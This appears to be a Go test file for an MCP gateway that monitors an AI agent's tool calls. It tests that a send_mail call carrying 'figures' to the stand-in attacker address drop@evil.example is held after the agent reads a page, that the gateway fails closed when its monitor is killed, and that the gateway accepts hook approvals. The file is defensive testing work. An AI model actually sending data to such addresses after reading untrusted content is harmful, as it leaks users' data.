@@ -1,0 +1,150 @@
+package main
+
+import (
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/tidemark/tidemark/internal/test/mcptest"
+)
+
+// relayed starts the program as an agent does in place of a server, and speaks to it as a client.
+func relayed(t *testing.T, data, name string, env []string, serverArgs ...string) *mcp.ClientSession {
+	t.Helper()
+	line, err := mcptest.Command(name, serverArgs...)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(os.Args[0], append([]string{"mcp", "--data", data, "--name", name, "--"}, line...)...)
+	cmd.Env = append(append(os.Environ(), "TIDEMARK_TEST_MAIN=1"), env...)
+	cmd.Stderr = os.Stderr
+	client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil)
+	session, err := client.Connect(t.Context(), &mcp.CommandTransport{Command: cmd}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = session.Close() })
+	return session
+}
+
+// calls is what the model would read, and whether the call failed.
+func calls(t *testing.T, s *mcp.ClientSession, name string, meta mcp.Meta, args any) (string, bool) {
+	t.Helper()
+	res, err := s.CallTool(t.Context(), &mcp.CallToolParams{Meta: meta, Name: name, Arguments: args})
+	if err != nil {
+		t.Fatal(err)
+	}
+	text, _ := res.Content[0].(*mcp.TextContent)
+	if text == nil {
+		t.Fatalf("got %+v", res.Content)
+	}
+	return text.Text, res.IsError
+}
+
+var mail = mcptest.Mail{To: "drop@evil.example", Body: "figures"}
+
+// Two real servers behind two relays, as one agent starts them, and a monitor that is killed in between.
+// MCP-11, MCP-12, MCP-36, SEQ-09
+func TestServersBehindRelaysShareWhatWasRead(t *testing.T) {
+	data, file := t.TempDir(), filepath.Join(t.TempDir(), "sent")
+	// A client without progress is not held long; here nobody answers at all.
+	if err := os.WriteFile(filepath.Join(data, "tidemark.yaml"), []byte("mcp: {wait: 1ms}\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	none := []string{"CLAUDE_CODE_SESSION_ID=", "TIDEMARK_SESSION="}
+	mails := relayed(t, data, "mail", none, file)
+	text, failed := calls(t, mails, "send_mail", nil, mail)
+	if !failed || !strings.Contains(text, "tidemark serve") {
+		t.Errorf("without a monitor: got %q", text)
+	}
+	s := startServer(t, data)
+	pages := relayed(t, data, "pages", none)
+	if text, failed := calls(t, pages, "read_page", nil, nil); failed || text != mcptest.Page {
+		t.Fatalf("the page: got %q", text)
+	}
+	held := func(when string) {
+		t.Helper()
+		if text, failed := calls(t, mails, "send_mail", nil, mail); !failed || !strings.Contains(text, "Rule: balanced.") {
+			t.Errorf("%s: got %q", when, text)
+		}
+	}
+	held("after the page")
+	s.kill()
+	if text, failed := calls(t, mails, "send_mail", nil, mail); !failed || !strings.Contains(text, "tidemark serve") {
+		t.Errorf("with the monitor killed: got %q", text)
+	}
+	startServer(t, data)
+	held("after a restart")
+	if exists(file) {
+		t.Error("a mail was sent")
+	}
+}
+
+// The agent's hook has let the call through: the gateway neither decides nor asks again.
+// MCP-14
+func TestACallOfTheHookIsJoined(t *testing.T) {
+	data, file := t.TempDir(), filepath.Join(t.TempDir(), "sent")
+	if err := os.WriteFile(filepath.Join(data, "tidemark.yaml"), []byte("mcp: {wait: 1ms}\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	s := startServer(t, data)
+	mails := relayed(t, data, "mail", []string{"CLAUDE_CODE_SESSION_ID=7"}, file)
+	tell := func(hook string, event map[string]any) (a answered) {
+		t.Helper()
+		if err := s.hook(t.Context(), "claude:7", hook, event, &a); err != nil {
+			t.Fatal(err)
+		}
+		return a
+	}
+	tell("message_received", map[string]any{"content": "Mail figures to drop@evil.example please"})
+	tell("after_tool_call", map[string]any{"toolName": "web_fetch", "params": map[string]any{}, "result": "a page"})
+	params := map[string]any{"to": mail.To, "body": mail.Body}
+	if a := tell("before_tool_call", map[string]any{"toolName": "mail__send_mail", "params": params, "toolCallId": "toolu_1"}); a.Block {
+		t.Fatalf("the hook: %+v", a)
+	}
+	meta := mcp.Meta{"claudecode/toolUseId": "toolu_1"}
+	if text, failed := calls(t, mails, "send_mail", meta, mail); failed {
+		t.Errorf("got %q", text)
+	}
+	var seen struct {
+		Steps int64 `json:"steps"`
+	}
+	if err := s.call(t.Context(), http.MethodGet, "/v1/sessions/claude:7", nil, &seen); err != nil || seen.Steps != 1 {
+		t.Errorf("got %d decisions, %v; want the hook's alone", seen.Steps, err)
+	}
+	other := mcptest.Mail{To: "somebody@else.example", Body: "figures"}
+	if text, failed := calls(t, mails, "send_mail", meta, other); !failed {
+		t.Errorf("other arguments under the same id: got %q", text)
+	}
+	raw, err := os.ReadFile(file)
+	if err != nil || string(raw) != "drop@evil.example\n" {
+		t.Errorf("sent to %q, %v", raw, err)
+	}
+}
+
+func TestTheRelayEndsWithTheServersCode(t *testing.T) {
+	data := t.TempDir()
+	if _, errOut, code := command(t, "mcp", "--name", "x__y", "--", "true", "--data", data); code == exitOK || !strings.Contains(errOut, "cannot be the name") {
+		t.Errorf("a name in two parts: %d %s", code, errOut)
+	}
+	cmd := exec.Command(os.Args[0], "mcp", "--data", data, "--name", "x", "--", "sh", "-c", "exit 5")
+	cmd.Env = append(os.Environ(), "TIDEMARK_TEST_MAIN=1")
+	in, err := cmd.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = in.Close() }()
+	if err := cmd.Run(); cmd.ProcessState.ExitCode() != 5 {
+		t.Errorf("got %v", err)
+	}
+	cmd = exec.Command(os.Args[0], "mcp", "--data", data, "--name", "x", "--", "/no/such/program")
+	cmd.Env = append(os.Environ(), "TIDEMARK_TEST_MAIN=1")
+	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "start the server") {
+		t.Errorf("got %s, %v", out, err)
+	}
+}
